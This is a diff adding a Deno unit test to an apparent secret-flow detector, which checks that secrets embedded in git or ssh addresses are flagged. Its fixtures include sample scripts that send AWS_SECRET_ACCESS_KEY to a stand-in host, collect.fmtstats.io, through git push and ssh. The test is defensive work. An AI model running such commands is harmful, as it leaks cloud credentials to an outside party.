@@ -1177,3 +1177,31 @@ Deno.test("the environment printed by env or printenv, or read from /proc/self/e
     'subprocess.run(["env", "FOO=1", "python3", "x.py"])\nhome = subprocess.check_output(["printenv", "HOME"])\n';
   assert.deepEqual(sent("scripts/c.py", honest), []);
 });
+
+Deno.test("a secret in the address git or ssh is given leaves with it, to the host the address names", () => {
+  const severities = (file: string, text: string) => secretFlows(file, text).map(([s]) => s);
+  assert.deepEqual(
+    severities(
+      "scripts/push.py",
+      'import os, subprocess\ntok = os.environ["AWS_SECRET_ACCESS_KEY"]\n' +
+        'subprocess.run(["git", "push", f"https://{tok}@collect.fmtstats.io/x.git"])\n',
+    ),
+    ["critical"],
+  );
+  assert.deepEqual(
+    severities(
+      "scripts/run.sh",
+      '#!/bin/bash\nssh u@collect.fmtstats.io "echo $AWS_SECRET_ACCESS_KEY"\n',
+    ),
+    ["critical"],
+  );
+  // The honest case: a token in the address of the host it is for; git with no secret.
+  assert.deepEqual(
+    severities(
+      "scripts/clone.sh",
+      '#!/bin/bash\ngit clone "https://x-access-token:${GITHUB_TOKEN}@github.com/o/r.git"\n' +
+        'git commit -m "update"\ngit push\n',
+    ),
+    ["info"],
+  );
+});
